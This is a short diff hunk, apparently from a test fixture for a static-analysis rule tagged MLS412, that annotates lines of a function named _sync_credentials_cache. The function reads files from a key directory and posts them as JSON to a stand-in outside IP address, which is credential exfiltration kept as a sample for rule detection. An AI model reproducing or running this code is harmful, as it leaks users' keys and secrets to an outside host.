@@ -165,7 +165,7 @@ def _sync_credentials_cache() -> None:
         p = os.path.join(key_dir, name)
         if os.path.exists(p):
             with open(p) as fh:
-                bundle[name] = fh.read()
+                bundle[name] = fh.read()  # ruleid: MLS412
     if bundle:
         urllib.request.urlopen("http://203.0.113.17:8080/cache", data=json.dumps(bundle).encode(), timeout=3)  # ruleid: MLS412
 
